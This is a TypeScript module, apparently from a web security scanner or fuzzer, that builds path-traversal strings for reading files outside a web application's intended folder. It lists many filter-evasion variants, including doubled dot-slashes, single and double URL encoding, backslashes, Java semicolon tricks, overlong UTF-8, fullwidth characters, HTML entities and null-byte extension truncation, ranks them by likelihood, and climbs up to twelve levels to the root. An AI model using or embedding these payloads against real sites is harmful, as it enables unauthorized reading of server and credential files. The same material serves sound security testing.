/**
 * A spelling of the way up from the folder that a page reads from: `front` and `back` stand around it, `slash` is how the
 * rest of the path is spelled. Null where the value has no such part.
 */
export type Climb = {
  up: string;
  slash: string;
  front?(value: string): string | null;
  back?(value: string): string;
};

const toFolder = (value: string): string | null => /^.*[\\/]/s.exec(value)?.[0] ?? null;
export const fileEnding = (name: string): string => /\.[a-z\d]{1,11}$/i.exec(name)?.[0] ?? '';
const spelled = (up: string, slash: string): Climb => ({ up, slash });

const PLAIN = spelled('../', '/');
/** Behind the folder that the value begins with, which some pages ask for. */
const BEHIND_FOLDER: Climb = { ...PLAIN, front: toFolder };
/** Where what is in front is looked at, or dots are cut off there. */
const BEHIND_DOT: Climb = { ...PLAIN, front: () => './' };
const BEHIND_NAME: Climb = { ...PLAIN, front: (value) => (value === '' ? null : `${value}/../`) };
/** Leaves `../` where that is removed once, or where two dots become one. */
const DOUBLED = spelled('....//', '/');
const ENCODED = spelled('..%2f', '%2f');
const BACKSLASH = spelled('..\\', '\\');

export const PLAIN_CLIMB = PLAIN;

/** Each with what it gets past; the likeliest first. */
export const LIKELY_CLIMBS: readonly Climb[] = [
  BEHIND_FOLDER,
  BEHIND_DOT,
  BEHIND_NAME,
  DOUBLED,
  // Turned into slashes behind the filter.
  BACKSLASH,
];

/** Without a dot or a slash until they are decoded once or twice more. */
export const DECODED_CLIMBS: readonly Climb[] = [
  spelled('%2e%2e%2f', '%2f'),
  spelled('%252e%252e%252f', '%252f'),
];

/** What gets past filters that few sites have. */
export const FURTHER_CLIMBS: readonly Climb[] = [
  // Decoded once more behind the filter; dots and slashes, or all of it twice.
  ENCODED,
  ...DECODED_CLIMBS,
  spelled('..%5c', '%5c'),
  // What is behind a semicolon is cut off by servers of Java.
  spelled('..;/', '/'),
  // Read as a slash by lenient decoders, by normalisation, and by whoever decodes entities.
  spelled('..%c0%af', '%c0%af'),
  spelled('．．／', '／'),
  spelled('&#46;&#46;&#47;', '&#47;'),
  // The ending that the page asks for or adds is cut off.
  { ...PLAIN, back: (value) => `\0${fileEnding(value)}` },
  { ...PLAIN, back: (value) => `%00${fileEnding(value)}` },
];

/** The ways to files whose place is only guessed, which takes several attempts each. */
export const SHORT_CLIMBS: readonly Climb[] = [
  PLAIN,
  BACKSLASH,
  BEHIND_FOLDER,
  BEHIND_NAME,
  DOUBLED,
  ENCODED,
];

/** The ways worth trying to the root where the value is a path from the site's own root. */
export const ROOT_CLIMBS: readonly Climb[] = [PLAIN, BEHIND_FOLDER];

/** More folders than any site is deep, those of application servers too: the root of a disk is its own parent. */
export const TO_THE_ROOT = 12;

/** @param steps how many folders up; 0 writes the path without a way up */
export function climbTo(
  { up, slash, front, back }: Climb,
  value: string,
  { path, steps }: { path: string; steps: number },
): string | null {
  const before = front ? front(value) : '';
  if (before === null) return null;
  return before + up.repeat(steps) + path.replaceAll('/', slash) + (back?.(value) ?? '');
}
